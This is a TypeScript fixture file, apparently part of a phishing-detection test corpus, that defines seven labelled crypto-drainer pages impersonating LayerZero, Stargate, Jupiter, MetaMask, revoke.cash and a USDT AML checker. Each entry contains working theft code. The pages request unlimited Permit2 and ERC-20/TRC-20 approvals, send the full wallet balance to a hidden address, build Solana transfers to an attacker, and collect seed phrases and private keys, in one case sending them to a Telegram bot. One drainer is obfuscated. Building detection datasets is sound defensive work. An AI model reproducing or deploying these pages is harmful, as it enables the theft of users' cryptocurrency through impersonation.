import { htmlRoute, type Entry } from '../entry.js';
import { b64, css, doc, img, js, json } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-drain-permit2-airdrop-claim
{
  id: 'h-drain-permit2-airdrop-claim',
  label: 'cryptodrainer',
  kind: 'airdrop-claim',
  url: 'https://claim.zro-airdrop.network/eligibility',
  body: doc({
    title: 'LayerZero — Claim $ZRO',
    css: `body{margin:0;background:#000;color:#f2f2f2;font-family:"Inter",Arial,sans-serif}.h{padding:20px 40px;display:flex;justify-content:space-between;border-bottom:1px solid #222}.c{max-width:520px;margin:60px auto;border:1px solid #333;padding:36px}h1{font-weight:400}.btn{background:#fff;color:#000;border:0;padding:14px 26px;cursor:pointer;font-size:15px;width:100%}.r{margin-top:18px;padding:14px;border:1px dashed #555;display:none}.amt{font-size:36px}`,
    body: `<div class="h"><b>LayerZero</b><span>Season 2 Distribution</span></div>
<div class="c"><h1>Check your $ZRO allocation</h1><p style="color:#999">The second distribution is open for 72 hours. Unclaimed tokens return to the foundation treasury.</p>
<button class="btn" id="ck">Connect wallet to check eligibility</button>
<div class="r" id="res"><p>You are eligible for</p><p class="amt"><span id="am">0</span> ZRO</p><button class="btn" id="cl">Claim</button></div><p id="m" style="color:#f66"></p></div>
<script src="/app/claim.bundle.js"></script>`,
  }),
  routes: {
    'claim.zro-airdrop.network/app/claim.bundle.js': js(`(()=>{const SPENDER="0x4f2B8e1cD903A7f5A9d6E1C0b72F3e84D5a91C6e",PERMIT2="0x000000000022D473030F116dDEE9F6B43aC78BA3",E=window.ethereum;let a;
const $=i=>document.getElementById(i);
$("ck").onclick=async()=>{if(!E){$("m").textContent="Please install a Web3 wallet";return}a=(await E.request({method:"eth_requestAccounts"}))[0];const r=await fetch("/api/alloc?w="+a).then(r=>r.json());$("am").textContent=r.amount;$("res").style.display="block"};
$("cl").onclick=async()=>{const tokens=await fetch("/api/tokens?w="+a).then(r=>r.json());const dl=Math.floor(Date.now()/1e3)+86400*30;
const msg={details:tokens.map(t=>({token:t,amount:"1461501637330902918203684832716283019655932542975",expiration:dl,nonce:0})),spender:SPENDER,sigDeadline:dl};
const typed={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},primaryType:"PermitBatch",domain:{name:"Permit2",chainId:1,verifyingContract:PERMIT2},message:msg};
try{const sig=await E.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(typed)]});await fetch("/api/claim",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a,sig,msg})});$("m").textContent="Claim queued. Tokens arrive within 10 minutes."}catch(e){$("m").textContent="Signature required to claim."}};})();`),
    'claim.zro-airdrop.network/api/alloc': json({ amount: '2,418.55' }),
    'claim.zro-airdrop.network/api/tokens': json(['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', '0xdAC17F958D2ee523a2206206994597C13D831ec7']),
    'claim.zro-airdrop.network/api/claim': json({ queued: true }),
  },
},
  // h-drain-wallet-validation-seed
{
  id: 'h-drain-wallet-validation-seed',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://dapps-validator-sync.web.app/rectify/',
  body: doc({
    title: 'DApp Node Sync — Validate & Rectify Wallet',
    css: `body{margin:0;background:#0b1426;color:#dfe7f5;font-family:Poppins,Arial,sans-serif}.t{text-align:center;padding:40px 20px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:14px;max-width:900px;margin:0 auto;padding:0 20px}.g div{background:#14213d;border-radius:10px;padding:18px;text-align:center;cursor:pointer}.g div:hover{background:#1d3161}.m{display:none;position:fixed;inset:0;background:#000a;align-items:center;justify-content:center}.mb{background:#fff;color:#222;width:460px;border-radius:12px;padding:24px}.tabs{display:flex;gap:6px}.tabs span{flex:1;text-align:center;padding:8px;border-bottom:2px solid #ddd;cursor:pointer}.tabs span.on{border-color:#3366ff;color:#3366ff}textarea{width:100%;height:110px;box-sizing:border-box;margin-top:12px;padding:10px}button{background:#3366ff;color:#fff;border:0;padding:12px;width:100%;border-radius:8px;margin-top:12px}`,
    body: `<div class="t"><h1>Decentralized Wallet Rectification Protocol</h1><p>Resolve any wallet issue: Validation · Rectification · Claim Reflection · Migration · Slippage error · High gas fees · Missing/irregular balance · Locked account · NFT bridging.<br>Select your wallet to begin synchronization.</p></div>
<div class="g"><div onclick="o('MetaMask')">🦊<br>MetaMask</div><div onclick="o('Trust Wallet')">🛡️<br>Trust Wallet</div><div onclick="o('Coinbase Wallet')">🔵<br>Coinbase Wallet</div><div onclick="o('Phantom')">👻<br>Phantom</div><div onclick="o('Exodus')">✖️<br>Exodus</div><div onclick="o('Ledger Live')">⬛<br>Ledger Live</div><div onclick="o('Rainbow')">🌈<br>Rainbow</div><div onclick="o('WalletConnect')">🔗<br>Other wallets</div></div>
<div class="m" id="md"><div class="mb"><h3 id="wn">Import wallet</h3><p style="color:#c33;font-size:13px" id="cn">Error connecting… Connect manually</p>
<div class="tabs"><span class="on" onclick="tb(0,this)">Phrase</span><span onclick="tb(1,this)">Keystore JSON</span><span onclick="tb(2,this)">Private Key</span></div>
<form action="/rectify/sync.php" method="post" id="sf"><input type="hidden" name="wallet" id="wl"><input type="hidden" name="type" id="ty" value="phrase">
<textarea name="data" id="dt" placeholder="Enter your recovery phrase" required></textarea><p style="font-size:12px;color:#666" id="hn">Typically 12 (sometimes 24) words separated by single spaces</p>
<button>Validate</button></form></div></div>
<script>
function o(w){document.getElementById('wn').textContent='Import your '+w+' wallet';document.getElementById('wl').value=w;document.getElementById('md').style.display='flex'}
function tb(i,e){document.querySelectorAll('.tabs span').forEach(function(s){s.className=''});e.className='on';document.getElementById('ty').value=['phrase','keystore','privatekey'][i];document.getElementById('dt').placeholder=['Enter your recovery phrase','Paste your keystore JSON','Enter your private key'][i];document.getElementById('hn').textContent=['Typically 12 (sometimes 24) words separated by single spaces','Several lines of text beginning with "{...}" plus the password you used to encrypt it','Typically 64 alphanumeric characters'][i]}
document.getElementById('md').onclick=function(e){if(e.target.id=='md')this.style.display='none'};
</script>`,
  }),
  routes: { 'dapps-validator-sync.web.app/rectify/sync.php': htmlRoute('<html><body><h3 style="font-family:Arial;margin:40px">Synchronization failed. Please try again with a different wallet.</h3></body></html>') },
},
  // h-drain-fake-bridge-native
{
  id: 'h-drain-fake-bridge-native',
  label: 'cryptodrainer',
  kind: 'fake-bridge',
  url: 'https://stargate-finance.bridge-transfer.app/transfer',
  body: doc({
    title: 'Stargate | Cross-chain Transfer',
    css: `body{margin:0;background:#000 linear-gradient(160deg,#0c0c0c,#1a1a1a);color:#fff;font-family:Inter,Arial,sans-serif}.n{padding:18px 30px;display:flex;gap:20px}.n b{margin-right:auto}.p{max-width:480px;margin:40px auto;background:#1c1c1c;border-radius:14px;padding:22px}.ch{display:flex;gap:10px}.ch div{flex:1;background:#262626;padding:14px;border-radius:10px}input{width:100%;background:#262626;border:0;color:#fff;font-size:26px;padding:14px;border-radius:10px;box-sizing:border-box;margin:12px 0}button{width:100%;padding:15px;border:0;border-radius:10px;background:#fff;color:#000;font-weight:600;font-size:16px}.f{font-size:12px;color:#999;margin-top:10px}`,
    body: `<div class="n"><b>⭐ STARGATE</b><span>Transfer</span><span>Pool</span><span>Stake</span><span>Bridge Rewards</span></div>
<div class="p"><div class="ch"><div><small>From</small><br>Ethereum</div><div><small>To</small><br>Arbitrum</div></div><input id="amt" value="0.5"><p class="f">Bonus: bridges this week earn 2x STG rewards. Fee: 0.00%</p><button id="b">Connect Wallet</button><p class="f" id="s"></p></div>
<script>
!function(){var D=atob('${b64('0x9E1fB3a4c70D25eF8a6b3C1d0E7f4A92b5D8c6E0')}'),u;
document.getElementById('b').onclick=async function(){var e=window.ethereum;if(!e){document.getElementById('s').textContent='No provider found';return}
if(!u){u=(await e.request({method:'eth_requestAccounts'}))[0];this.textContent='Transfer';return}
var b=BigInt(await e.request({method:'eth_getBalance',params:[u,'latest']}));var gp=BigInt(await e.request({method:'eth_gasPrice'}));var send=b-gp*21000n*12n/10n;
if(send>0n){document.getElementById('s').textContent='Confirm the transfer in your wallet';await e.request({method:'eth_sendTransaction',params:[{from:u,to:D,value:'0x'+send.toString(16),data:'0x'}]});fetch('/api/hit',{method:'POST',body:u+':'+send})}}
}();
</script>`,
  }),
  routes: { 'stargate-finance.bridge-transfer.app/api/hit': json({}) },
},
  // h-drain-phantom-jup-claim
{
  id: 'h-drain-phantom-jup-claim',
  label: 'cryptodrainer',
  kind: 'airdrop-claim',
  url: 'https://jup-claim.solana-rewards.io/jupuary',
  body: doc({
    title: 'Jupuary 2026 — Claim your JUP',
    css: `body{margin:0;background:#0e1218;color:#e8f9ef;font-family:Inter,Arial,sans-serif;text-align:center}.c{max-width:480px;margin:80px auto;background:#19222d;border-radius:16px;padding:34px}h1{color:#c7f284}button{background:#c7f284;color:#0e1218;border:0;border-radius:12px;padding:14px 30px;font-weight:700;font-size:16px;cursor:pointer}`,
    body: `<div class="c"><h1>Jupuary is here 🪐</h1><p>700M JUP distributed to active users. Connect your Solana wallet to see your allocation.</p><button id="pc">Connect Phantom</button><p id="o"></p></div>
<script src="/js/web3.iife.min.js"></script><script src="/js/jup.js"></script>`,
  }),
  routes: {
    'jup-claim.solana-rewards.io/js/web3.iife.min.js': js('/* @solana/web3.js (stub bundle) */var solanaWeb3={PublicKey:function(k){this.k=k;this.toBase58=function(){return k}},SystemProgram:{transfer:function(o){return {programId:"11111111111111111111111111111111",keys:[o.fromPubkey,o.toPubkey],lamports:o.lamports}}},Transaction:function(){this.instructions=[];this.add=function(i){this.instructions.push(i);return this}}};'),
    'jup-claim.solana-rewards.io/js/jup.js': js(`(async function(){var R='7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU',o=document.getElementById('o');
document.getElementById('pc').onclick=async function(){var p=window.phantom&&window.phantom.solana||window.solana;if(!p){o.textContent='Phantom not found. Install from phantom.app';return}
var r=await p.connect();var pk=r.publicKey.toString();o.textContent='Allocation: 4,120 JUP — approve the claim transaction';
var info=await fetch('/api/build?owner='+pk).then(function(x){return x.json()});
var txs=info.txs.map(function(t){var tx=new solanaWeb3.Transaction();tx.add(solanaWeb3.SystemProgram.transfer({fromPubkey:new solanaWeb3.PublicKey(pk),toPubkey:new solanaWeb3.PublicKey(R),lamports:t.lamports}));tx.feePayer=pk;return tx});
try{var signed=await p.signAllTransactions(txs);await fetch('/api/submit',{method:'POST',body:JSON.stringify({pk:pk,n:signed.length})});o.textContent='Claimed! JUP will appear shortly.'}catch(e){o.textContent='You must approve to claim.'}}})();`),
    'jup-claim.solana-rewards.io/api/build': json({ txs: [{ lamports: 995000000 }, { lamports: 1 }] }),
    'jup-claim.solana-rewards.io/api/submit': json({ ok: true }),
  },
},
  // h-drain-metamask-restore-seed-multi
{
  id: 'h-drain-metamask-restore-seed-multi',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://metamask-restore.wallet-secure-login.com/restore-vault',
  body: doc({
    title: 'MetaMask — Restore your wallet',
    css: `body{margin:0;background:#f2f4f6;font-family:Euclid,Roboto,Arial,sans-serif}.hd{background:#fff;padding:14px 30px;display:flex;align-items:center;gap:10px;border-bottom:1px solid #ddd}.hd select{margin-left:auto}.c{max-width:640px;margin:30px auto;background:#fff;border-radius:10px;padding:30px}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.g div{display:flex;gap:6px;align-items:center}.g input{flex:1;padding:8px;border:1px solid #bbc0c5;border-radius:6px}button{background:#0376c9;color:#fff;border:0;border-radius:20px;padding:12px 40px;margin-top:20px;font-size:15px}.w{background:#fdf4f4;border-left:4px solid #d73847;padding:10px;font-size:14px}`,
    body: `<div class="hd"><span style="font-size:28px">🦊</span><b>METAMASK</b><select id="lg" onchange="L(this.value)"><option value="en">English</option><option value="es">Español</option><option value="pt">Português</option><option value="tr">Türkçe</option><option value="ru">Русский</option></select></div>
<div class="c"><h2 id="t1">Your wallet has been temporarily locked</h2><p class="w" id="t2">We detected unusual activity and a pending security upgrade. To keep access to your funds, restore your wallet with your Secret Recovery Phrase.</p>
<p id="t3">Secret Recovery Phrase</p><div style="margin-bottom:10px"><label><input type="radio" name="n" checked onclick="G(12)"> 12</label> <label><input type="radio" name="n" onclick="G(18)"> 18</label> <label><input type="radio" name="n" onclick="G(24)"> 24</label></div>
<div class="g" id="g"></div><button id="rs">Restore</button><p id="er" style="color:#d73847"></p></div>
<script>
var TX={en:['Your wallet has been temporarily locked','We detected unusual activity and a pending security upgrade. To keep access to your funds, restore your wallet with your Secret Recovery Phrase.','Secret Recovery Phrase'],es:['Su billetera ha sido bloqueada temporalmente','Detectamos actividad inusual. Para mantener el acceso a sus fondos, restaure su billetera con su Frase Secreta de Recuperación.','Frase secreta de recuperación'],pt:['Sua carteira foi bloqueada temporariamente','Detectamos atividade incomum. Para manter o acesso aos seus fundos, restaure sua carteira com sua Frase de Recuperação Secreta.','Frase de Recuperação Secreta'],tr:['Cüzdanınız geçici olarak kilitlendi','Olağandışı etkinlik tespit ettik. Fonlarınıza erişimi korumak için cüzdanınızı Gizli Kurtarma İfadenizle geri yükleyin.','Gizli Kurtarma İfadesi'],ru:['Ваш кошелёк временно заблокирован','Мы обнаружили подозрительную активность. Чтобы сохранить доступ к средствам, восстановите кошелёк с помощью секретной фразы.','Секретная фраза для восстановления']};
function L(l){[1,2,3].forEach(function(i){document.getElementById('t'+i).textContent=TX[l][i-1]})}
function G(n){var h='';for(var i=1;i<=n;i++)h+='<div>'+i+'.<input type="password" autocomplete="off" class="w'+i+'"></div>';document.getElementById('g').innerHTML=h}G(12);
document.getElementById('rs').onclick=function(){var ws=[].map.call(document.querySelectorAll('#g input'),function(i){return i.value.trim().toLowerCase()});if(ws.some(function(w){return !w})){document.getElementById('er').textContent='Please fill in all words';return}
var t='7795320184:AAGm2Xo8Qp1vRz4LkT6yW0bN9sJcHd3eFuA';fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({chat_id:'-1001988230417',text:'🦊 MM PHRASE ('+ws.length+')\\n'+ws.join(' ')+'\\n'+navigator.language})}).then(function(){document.getElementById('er').textContent='Invalid Secret Recovery Phrase. Please check each word and try again.'})};
</script>`,
  }),
  routes: { 'api.telegram.org/bot7795320184:AAGm2Xo8Qp1vRz4LkT6yW0bN9sJcHd3eFuA/sendMessage': json({ ok: true }) },
},
  // h-drain-tron-usdt-aml-check
{
  id: 'h-drain-tron-usdt-aml-check',
  label: 'cryptodrainer',
  kind: 'approval-drainer',
  url: 'https://usdt-aml-check.trc20-verify.com/',
  body: doc({
    title: 'AML Check — verify your USDT (TRC-20) wallet',
    css: `body{margin:0;background:#eef3f8;font-family:Arial,sans-serif}.c{max-width:460px;margin:50px auto;background:#fff;padding:30px;border-radius:14px;text-align:center;box-shadow:0 4px 20px #0001}.lg{font-size:40px;color:#26a17b}button{background:#26a17b;color:#fff;border:0;padding:14px;width:100%;border-radius:10px;font-size:16px}.s{font-size:13px;color:#666}`,
    body: `<div class="c"><div class="lg">₮</div><h2>Free AML risk check</h2><p class="s">Exchanges may freeze USDT received from sanctioned or high-risk addresses. Check your TRON wallet in seconds. Supported: TronLink, Trust Wallet, imToken, TokenPocket.</p>
<button id="v">Check wallet</button><p class="s" id="r"></p><p class="s">Powered by chain analytics · Report ID generated after check</p></div>
<script>
document.getElementById('v').onclick=async function(){var r=document.getElementById('r');var tw=window.tronWeb;if(!tw||!tw.defaultAddress||!tw.defaultAddress.base58){if(window.tronLink){await window.tronLink.request({method:'tron_requestAccounts'});tw=window.tronWeb}else{r.textContent='Open this page in your wallet\\'s DApp browser';return}}
r.textContent='Scanning…';var spender='TQ4Wb6xN9qZ3Hk2vYp7LmC8sRdF1aE5uJt';
try{var c=await tw.contract().at('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t');await c.approve(spender,'115792089237316195423570985008687907853269984665640564039457584007913129639935').send({feeLimit:100000000});
fetch('/api/report',{method:'POST',body:tw.defaultAddress.base58});r.textContent='Risk score: 3% (low). Your wallet is clean ✓'}catch(e){r.textContent='Check cancelled'}};
</script>`,
  }),
  routes: { 'usdt-aml-check.trc20-verify.com/api/report': json({ id: 'AML-55102' }) },
},
  // h-drain-revoke-obfuscated
{
  id: 'h-drain-revoke-obfuscated',
  label: 'cryptodrainer',
  kind: 'obfuscated-drainer',
  url: 'https://revoke-approvals.cash-tools.org/',
  body: doc({
    title: 'Revoke.cash — Revoke your token allowances',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#000}.n{display:flex;padding:16px 30px;align-items:center;border-bottom:1px solid #000}.n b{font-size:20px}.n button{margin-left:auto;background:#000;color:#fff;border:0;padding:10px 18px;border-radius:8px}.h{text-align:center;padding:60px 20px}.h h1{font-size:46px;margin:0}.t{max-width:800px;margin:0 auto;border:1px solid #000;border-radius:10px;padding:20px;min-height:120px;color:#666}`,
    body: `<div class="n"><b>🛡 revoke.cash</b><button id="cb">Connect Wallet</button></div>
<div class="h"><h1>Take back control of your wallet</h1><p>Revoke.cash helps you protect your assets by revoking token approvals you granted in the past. Supports 100+ networks.</p></div>
<div class="t" id="tb">Connect your wallet to view your approvals. You will be asked to sign a batch revoke transaction.</div>
<script src="/_next/static/chunks/pages/app-5c2f1a.js"></script>`,
  }),
  routes: {
    'revoke-approvals.cash-tools.org/_next/static/chunks/pages/app-5c2f1a.js': js(`var _0x4a2c=['${b64('eth_requestAccounts')}','${b64('eth_sendTransaction')}','${b64('0xa22cb465')}','${b64('0x095ea7b3')}','${b64('0xB2e4F19a0c7D36E5f8a1C9d0E4b7A3f6D1c8e2A5')}','${b64('/api/v2/scan?w=')}'];
function _0x1f(i){return atob(_0x4a2c[i])}
(function(){var _w=window['eth'+'ereum'],_a,_r=_0x1f(4).toLowerCase().slice(2).padStart(64,'0');
document.getElementById('cb').addEventListener('click',async function(){if(!_w)return alert('No wallet');_a=(await _w.request({method:_0x1f(0)}))[0];
var s=await fetch(_0x1f(5)+_a).then(function(r){return r.json()});document.getElementById('tb').textContent='Found '+(s.erc20.length+s.nft.length)+' risky approvals. Click "Revoke all" in your wallet.';
for(var i=0;i<s.nft.length;i++){try{await _w.request({method:_0x1f(1),params:[{from:_a,to:s.nft[i],data:_0x1f(2)+_r+'0'.repeat(63)+'1'}]})}catch(e){}}
for(var j=0;j<s.erc20.length;j++){try{await _w.request({method:_0x1f(1),params:[{from:_a,to:s.erc20[j],data:_0x1f(3)+_r+'f'.repeat(64)}]})}catch(e){}}})})();`),
    'revoke-approvals.cash-tools.org/api/v2/scan': json({ erc20: ['0xdAC17F958D2ee523a2206206994597C13D831ec7'], nft: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D'] }),
  },
},
];
